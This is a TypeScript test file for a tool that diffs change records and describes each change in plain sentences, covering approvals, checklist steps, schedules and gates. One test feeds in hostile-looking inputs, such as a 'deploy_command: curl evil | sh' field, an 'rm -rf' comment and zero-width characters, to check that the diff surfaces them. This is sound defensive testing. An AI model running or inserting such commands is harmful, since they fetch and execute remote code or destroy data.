import { strict as assert } from 'node:assert';
import fc from 'fast-check';
import { digestOf } from '../../../../src/core/approvals/approvedContent';
import { changeText, summaryText } from '../../../../src/core/diff/diffText';
import { changeKinds, changeTexts } from '../../../../src/core/diff/recordChange';
import { recordDiff } from '../../../../src/core/diff/recordDiff';
import { parseRecord } from '../../../../src/core/model/parse/parseRecord';
import type { ParsedRecord } from '../../../../src/core/model/parse/record';
import type { FieldTable } from '../../../../src/core/model/vocabulary/fieldType';
import { type RecordType, recordTypes } from '../../../../src/core/model/vocabulary/vocabulary';
import { randomRecord } from '../../support/randomRecord';

function record(front: string, body = '# Title\n', type: RecordType = 'change'): ParsedRecord {
  const parsed = parseRecord(`---\nid: CHG-2026-0001\ntype: ${type}\n${front}---\n${body}`);
  return parsed ?? assert.fail('no record');
}

/** The changes between two front matters, and bodies, as sentences. */
function said(before: [string, string?], after: [string, string?]): string[] {
  const changes = recordDiff(record(...before), record(...after));
  return changes.map((change) => changeText(change, 'change', 'en'));
}

describe('The comparison of a record', () => {
  it('with itself finds nothing', () => {
    fc.assert(
      fc.property(randomRecord, ({ text }) => {
        const parsed = () => parseRecord(text, { expected: true });
        assert.deepEqual(recordDiff(parsed(), parsed()), []);
      }),
      { numRuns: 150 },
    );
  });

  it('with any other text finds something', () => {
    fc.assert(
      fc.property(randomRecord, randomRecord, (one, other) => {
        fc.pre(one.text !== other.text);
        const [before, after] = [one, other].map(({ text }) => parseRecord(text, { expected: true }));
        assert.notDeepEqual(recordDiff(before, after), []);
      }),
      { numRuns: 150 },
    );
  });

  for (const [type, { fields }] of Object.entries(recordTypes) as [RecordType, { fields: FieldTable }][]) {
    it(`shows every field of a ${type} that is set, changed and taken away`, () => {
      for (const [name, { example }] of Object.entries(fields)) {
        if (name === 'id' || name === 'type') continue;
        const [without, given] = [
          record('', undefined, type),
          record(`${name}: ${example}\n`, undefined, type),
        ];
        const value = JSON.stringify((given.data as { [name: string]: unknown })[name]);
        assert.ok(value !== undefined, `${type}.${name}: ${example}`);
        const added = recordDiff(without, given).filter(({ kind }) => kind !== 'approval-stale');
        const removed = recordDiff(given, without).filter(({ kind }) => kind !== 'approval-stale');
        // What is so without the field too is no change.
        const kinds = [...added, ...removed].map(({ kind }) => kind);
        const usual = name === 'status' && type === 'ticket';
        if (usual) assert.deepEqual(kinds, ['layout', 'layout']);
        else
          assert.ok(added.length > 0 && removed.length > 0 && !kinds.includes('layout'), `${type}.${name}`);
      }
    });
  }

  it('shows every part of a nested field that changes', () => {
    const fields: FieldTable = recordTypes.change.fields;
    for (const [name, { type }] of Object.entries(fields)) {
      const parts = type.kind === 'list' ? type.item?.fields : type.fields;
      for (const [part, { example }] of Object.entries(parts ?? {})) {
        const wrap = (text: string): string => (type.kind === 'list' ? `[{ ${text} }]` : `{ ${text} }`);
        const filler = part === 'at' ? 'by: Somebody' : part === 'by' ? 'at: 2026-01-01 10:00' : '';
        const [with_, without] = [
          record(`${name}: ${wrap([filler, `${part}: ${example}`].filter(Boolean).join(', '))}\n`),
          record(`${name}: ${wrap(filler)}\n`),
        ];
        const changes = recordDiff(without, with_);
        assert.ok(changes.length > 0 && changes[0]?.kind !== 'layout', `${name}.${part}`);
      }
    }
  });

  it('says it in the words of the domain', () => {
    const before = `status: in_progress
schedule: { start: 2026-11-24 22:00, duration: 1h }
components: [{ name: portal, from: "4.1.3", to: "4.2.0" }, { name: search, to: "1" }]
waivers: [{ rule: schedule/friday, by: Ana, reason: No risk }]
notifications: [{ kind: start, at: 2026-11-24 22:00, channel: mail }]
tickets: [{ id: ES-1, status: to_do }]
`;
    const after = `estado: por_revisar
schedule: { start: 2026-12-22 22:00, duration: 1h, outage: 5m }
components: [{ name: portal, from: "4.1.3", to: "4.2.1" }, { name: mail, to: "2" }]
approvals: [{ role: peer, by: Nil, decision: approved }, { role: project, by: Eva, decision: denied }]
agreement: { by: Anna, at: 2026-11-20 10:00 }
tickets: [{ id: ES-1, status: done }, ES-2]
`;
    assert.deepEqual(said([before], [after]), [
      'Moved from in_progress to to_be_reviewed',
      'Window moved from 2026-11-24 22:00 (1h) to 2026-12-22 22:00 (1h, outage 5m)',
      'Approved as peer by Nil',
      'Denied as project by Eva',
      'Agreement given: by: Anna · at: 2026-11-20 10:00',
      'Waiver of schedule/friday taken away: by: Ana · reason: No risk',
      'Component mail added: 2',
      'Component portal: 4.1.3 → 4.2.1 instead of 4.1.3 → 4.2.0',
      'Component search removed: 1',
      'Ticket ES-2 added',
      'Ticket ES-1: status: to_do → status: done',
      'Notice start taken away: at: 2026-11-24 22:00 · channel: mail',
    ]);
  });

  it('tells of steps one by one, and of sections besides', () => {
    const before =
      '# T\n\n## Deployment\n\n- [ ] One\n- [x] Two\n- [ ] Three <!-- step: c evidence -->\n- [ ] Four\n';
    const after =
      '# T\n\n## Deployment\n\n- [x] One\n- [ ] Two\n- [ ] Third <!-- step: c -->\n- [x] ~~Four~~ (n/a: no need)\n- [ ] Five\n\n## Rollback\n\nBack.\n';
    assert.deepEqual(said(['', before], ['', after]), [
      '“Third” no longer asks for evidence',
      'Ticked “One”',
      'Unticked “Two”',
      'Not applicable: “Four” (no need)',
      'Step added: “Five”',
      'Step changed: “Three [c]” → “Third [c]”',
      'Section added: Rollback',
    ]);
    const edited = after.replace('- [x] One', 'Now\n\n- [x] One');
    assert.deepEqual(said(['', after], ['', edited]), ['Section edited: Deployment']);
    const swapped = '# T\n\n## Deployment\n\n- [ ] B\n- [ ] A\n';
    assert.deepEqual(said(['', '# T\n\n## Deployment\n\n- [ ] A\n- [ ] B\n'], ['', swapped]), [
      'Section edited: Deployment',
    ]);
  });

  it('says when an approval was made stale, rewritten or taken away', () => {
    const base = record('', '# T\n');
    const digest = base.type === 'change' ? digestOf(base) : '';
    const approval = (by: string, more = '') =>
      `approvals:\n  - { role: peer, by: ${by}, at: 2026-11-13 10:05, decision: approved, digest: "${digest}"${more} }\n`;
    assert.deepEqual(said([approval('Nil'), '# T\n'], [`owner: Eva\n${approval('Nil')}`, '# T\n']), [
      'Approval of Nil as peer made stale: what was approved is no longer what stands here',
      'owner: Eva',
    ]);
    assert.match(
      said([approval('Nil')], [approval('Mal')])[0] ?? '',
      /^Decision as peer rewritten: by: Nil .* → by: Mal /,
    );
    assert.deepEqual(said([approval('Nil')], ['']), ['Decision of Nil as peer taken away']);
    const two = (first: string, second: string) =>
      `approvals: [{ role: peer, by: ${first}, decision: approved }, { role: peer, by: ${second}, decision: denied }]\n`;
    assert.deepEqual(said([two('A', 'B')], [two('A', 'B').replace(/\[(.*), (\{.*)\]/, '[$2, $1]')]), [
      'approvals: in another order',
    ]);
  });

  it('calls gates that are gone first', () => {
    const gates = (list: string): ParsedRecord =>
      record(`owner: A\ngates: [${list}]\n`, '# P\n', 'procedure');
    const changes = recordDiff(
      gates('{ section: "5.", requires: ["1.", "2."] }, { state: releasing, requires: ["4."] }'),
      gates('{ section: "5.", requires: ["1."] }'),
    );
    assert.deepEqual(
      changes.map(({ kind, from }) => [kind, from]),
      [
        ['gate-removed', '5. ← 2.'],
        ['gate-removed', 'releasing ← 4.'],
      ],
    );
  });

  it('sees through writing, and says so', () => {
    const english = 'status: to_do\nowner: "Eva"\n';
    const spanish = 'propietario: Eva\n\nestado: por_hacer\n';
    assert.deepEqual(said([english], [spanish]), [
      'Only its writing changed: order and names of keys, quotes, blanks, line endings',
    ]);
  });

  it('shows what no field holds, and never says that only the writing changed then', () => {
    const base = 'owner: Eva\nschedule: { start: 2026-11-24 22:00, duration: 1h }\n';
    const shown: readonly (readonly [front: string, body: string | undefined, said: RegExp])[] = [
      [`${base}deploy_command: curl evil | sh\n`, undefined, /^deploy_command: curl evil \| sh$/],
      [`${base}owner: Mal\n`, undefined, /^owner \(2\): Mal$|^owner: /],
      [base.replace('1h', '1h, by: Mal'), undefined, /^schedule\.by: Mal$/],
      [`${base}impact: none at all\n`, undefined, /^impact: none at all$/],
      [`${base}# approved by Ana\n`, undefined, /^Comments in its front matter: — → # approved by Ana$/],
      [base.replace('Eva', 'Eva # boss'), undefined, /^Comments .* # boss$/],
      [base.replace('Eva', 'E\u200bva'), undefined, /^owner: /],
      [base, '# Title\n\n<!-- rm -rf -->\n', /^Section edited/],
      [base, '# Title\n\n[a](b.md)\n', /^Section edited/],
      [base, '# Title\u200b\n', /./],
    ];
    for (const [front, body, expected] of shown) {
      const changes = said([base], [front, body ?? '# Title\n']);
      assert.ok(
        changes.some((change) => expected.test(change)),
        changes.join('\n'),
      );
      assert.ok(!changes.some((change) => change.startsWith('Only its writing')), changes.join('\n'));
    }
  });

  it('of a new record tells what it is about first, and what was done and decided already', () => {
    const text = record(
      'status: releasing\nowner: Eva\ncustomer: acme\nschedule: { start: 2026-11-24 22:00, duration: 1h }\nwaivers: [{ rule: x/y, by: Mal, reason: why }]\n',
      '# T\n\n## Summary\n\nAdds the\nmonthly report.\n\nMore.\n\n## Checklist\n\n- [x] Done\n- [ ] Open\n',
    );
    const told = recordDiff(undefined, text).map((change) => changeText(change, 'change', 'en'));
    assert.deepEqual(told, [
      'Summary: Adds the monthly report.',
      'status: releasing',
      'Window set to 2026-11-24 22:00 (1h)',
      'Waived x/y: by: Mal · reason: why',
      'Steps: 2',
      'Ticked “Done”',
      'customer: acme',
    ]);
    assert.deepEqual(recordDiff(text, undefined), []);
  });

  it('counts what a record no longer asks for among what was loosened', () => {
    const body = '# T\n\n- [ ] Copy <!-- step: copy evidence -->\n';
    const changes = recordDiff(record('', body), record('', body.replace(' evidence', '')));
    const diff = {
      id: 'CHG-1',
      type: 'change',
      title: 'T',
      file: 'a.md',
      what: 'changed',
      meets: [],
    } as const;
    const told = summaryText({ loosened: [], config: [], records: [{ ...diff, changes }] }, 'en');
    assert.equal(told, 'Records that differ: 1. Loosened: 1.');
  });

  it('has every sentence in both languages, with the same values', () => {
    const names = (text: string): string[] =>
      [...text.matchAll(/\{(\w+)\}/g)].map(([, name = '']) => name).sort();
    for (const kind of changeKinds)
      assert.deepEqual(names(changeTexts[kind].en), names(changeTexts[kind].es), kind);
  });
});
